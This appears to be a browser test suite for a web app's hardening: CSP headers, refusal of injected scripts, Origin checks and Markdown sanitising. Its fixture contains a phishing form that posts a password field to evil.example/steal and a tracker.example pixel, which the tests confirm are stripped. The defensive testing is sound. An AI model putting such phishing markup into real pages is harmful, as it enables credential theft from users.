import type { Catalogue } from '@mop/shared';
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import {
  DEMO_PASSWORD,
  login,
  useStackAndBrowser,
  waitForConnectionState,
  waitForServiceWorker,
  watchErrors
} from './harness.ts';

/** A coordinator publishes a resource whose Markdown has a form, a password field and a remote image. */
async function publishHostileResource(url: string): Promise<string> {
  const post = async <T>(path: string, body: unknown, cookie = ''): Promise<{ body: T; cookie: string }> => {
    const response = await fetch(`${url}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: url, ...(cookie ? { cookie } : {}) },
      body: JSON.stringify(body)
    });
    if (!response.ok) throw new Error(`POST ${path}: ${response.status} ${await response.text()}`);
    return { body: (await response.json()) as T, cookie: response.headers.get('set-cookie')?.split(';')[0] ?? '' };
  };
  const { cookie } = await post('/api/auth/login', { email: 'coordinator@example.org', password: DEMO_PASSWORD });
  const catalogue = (await (await fetch(`${url}/api/catalogue`)).json()) as Catalogue;
  const { body } = await post<{ id: string }>(
    '/api/resources',
    {
      title: 'A page that tries too much',
      summary: 'Forms, password fields and a tracking pixel.',
      type: 'page',
      audience: ['mentor'],
      language: 'en',
      collection: catalogue.collections[0]!.id,
      body: [
        '## Sign in again',
        '',
        '<form action="https://evil.example/steal"><input type="password" name="p"><button>Go</button></form>',
        '',
        '![pixel](https://tracker.example/pixel.png) ![logo](/icons/icon.svg)',
        '',
        '- [ ] A task that stays a checkbox'
      ].join('\n')
    },
    cookie
  );
  return body.id;
}

/**
 * The Content-Security-Policy measured in Chromium (docs/security.md): the public pages, the signed-in app and its
 * offline start from the service worker run with no violation at all, while a script injected into the page is
 * refused; resource Markdown loses its forms, password fields and remote images.
 */
describe('web hardening in the browser', () => {
  const suite = useStackAndBrowser();

  /** Reports every CSP violation of every page of the device as a console error the test collects. */
  async function watchViolations(device: BrowserContext, violations: string[]): Promise<void> {
    await device.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) =>
        console.error(`CSP violation: ${event.effectiveDirective} blocked ${event.blockedURI || 'inline'}`)
      );
    });
    device.on('console', (message) => {
      if (message.type() === 'error' && /Content Security Policy|CSP violation/i.test(message.text()))
        violations.push(`${message.page()?.url() ?? '?'}: ${message.text()}`);
    });
  }

  it('runs the public pages, the signed-in app and its offline start under the policy with no violation', async () => {
    const violations: string[] = [];
    const errors: string[] = [];
    const device = await suite.device();
    await watchViolations(device, violations);
    const page = await device.newPage();
    watchErrors(page, 'visitor', errors);

    // Public pages, rendered on the server, then hydrated.
    const learn = await page.goto('/learn');
    const policy = learn?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toMatch(/script-src 'self' 'sha256-[^']+'/);
    expect(policy.split(';').find((directive) => directive.includes('script-src'))).not.toContain('unsafe');
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    const catalogue = (await (await fetch(`${suite.stack.url}/api/catalogue`)).json()) as Catalogue;
    await page.goto(`/learn/${catalogue.resources[0]!.id}`);
    await page.getByRole('heading', { name: catalogue.resources[0]!.title }).waitFor();
    await page.goto('/verify');
    await page.getByRole('heading', { level: 1 }).first().waitFor();

    // The signed-in app: the pair's workspace and its messages.
    await login(page, 'mentor@example.org');
    await page
      .getByRole('link', { name: /open workspace with/i })
      .first()
      .click();
    await page.waitForURL(/\/mentoring\/[^/]+$/);
    await page.getByRole('heading', { name: 'Session notes' }).waitFor();
    const workspace = new URL(page.url()).pathname;
    await waitForServiceWorker(page);
    await waitForConnectionState(page, 'synced');

    // Offline: the service worker's copy of the shell boots the app, under the same policy.
    await device.setOffline(true);
    await page.reload();
    await waitForConnectionState(page, 'offline');
    await page.getByText(/Offline — signed in as/).waitFor();
    expect(new URL(page.url()).pathname).toBe(workspace);
    await page.getByRole('heading', { name: 'Session notes' }).waitFor();
    await device.setOffline(false);

    expect(violations).toEqual([]);
    expect(errors).toEqual([]);

    // The policy is in force: a script injected into the page does not run, and the browser says why.
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.body.dataset.injected = "yes"';
      document.body.append(script);
      return document.body.dataset.injected ?? 'no';
    });
    expect(ran).toBe('no');
    await expect.poll(() => violations.some((line) => /script-src/.test(line))).toBe(true);
  });

  it('leaves a revalidated page its own policy (a 304 brings none that would replace it)', async () => {
    const first = await fetch(`${suite.stack.url}/login`);
    const etag = first.headers.get('etag');
    expect(first.headers.get('content-security-policy')).toMatch(/script-src 'self' 'sha256-/);
    await first.body?.cancel();
    expect(etag).toBeTruthy();
    const again = await fetch(`${suite.stack.url}/login`, { headers: { 'if-none-match': etag! } });
    expect(again.status).toBe(304);
    // Whatever a 304 carries replaces the cached copy's header: a default policy here would block the shell's script.
    expect(again.headers.get('content-security-policy')).toBeNull();
  });

  it('lets the app’s own state-changing requests through the Origin check', async () => {
    const device = await suite.device();
    const page = await device.newPage();
    await login(page, 'mentee@example.org');
    // Chromium sends Origin (and Sec-Fetch-Site: same-origin) with the app's own POST.
    const status = await page.evaluate(async () => (await fetch('/api/calendar/token', { method: 'POST' })).status);
    expect(status).toBe(201);
  });

  it('renders resource Markdown with the strict profile: no form, no password field, no remote image', async () => {
    const id = await publishHostileResource(suite.stack.url);
    const violations: string[] = [];
    const device = await suite.device();
    await watchViolations(device, violations);
    const page: Page = await device.newPage();
    await page.goto(`/learn/${id}`);
    await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
    const article = page.locator('article');
    await expect.poll(() => article.locator('img[src="/icons/icon.svg"]').count()).toBe(1);
    expect(await page.locator('form').count()).toBe(0);
    expect(await page.locator('input[type="password"]').count()).toBe(0);
    expect(await page.locator('img[src*="tracker.example"]').count()).toBe(0);
    expect(await article.locator('input[type="checkbox"][disabled]').count()).toBe(1);

    // The same page reached inside the app is rendered in the browser, through DOMPurify's strict profile.
    await page.goto('/learn');
    await page.getByRole('link', { name: 'A page that tries too much' }).first().click();
    await page.waitForURL(new RegExp(`/learn/${id}$`));
    await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
    await expect.poll(() => page.locator('article img[src="/icons/icon.svg"]').count()).toBe(1);
    expect(await page.locator('form').count()).toBe(0);
    expect(await page.locator('input[type="password"]').count()).toBe(0);
    expect(await page.locator('img[src*="tracker.example"]').count()).toBe(0);
    expect(await page.locator('article input[type="checkbox"][disabled]').count()).toBe(1);
    expect(violations).toEqual([]);
  });
});

describe('remote images allowed by the admin (MOP_REMOTE_IMAGES=1)', () => {
  const suite = useStackAndBrowser(() => ({ remoteImages: true }));

  it('lets the page policy load https images and the sanitiser keep them, and still no form', async () => {
    const id = await publishHostileResource(suite.stack.url);
    const device = await suite.device();
    const page = await device.newPage();
    const response = await page.goto(`/learn/${id}`);
    const imgSrc = (response?.headers()['content-security-policy'] ?? '')
      .split(';')
      .find((directive) => directive.trim().startsWith('img-src'));
    expect(imgSrc?.trim()).toBe("img-src 'self' data: blob: https:");
    await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
    await expect.poll(() => page.locator('article img[src="https://tracker.example/pixel.png"]').count()).toBe(1);
    expect(await page.locator('form').count()).toBe(0);
    expect(await page.locator('input[type="password"]').count()).toBe(0);
  });
});
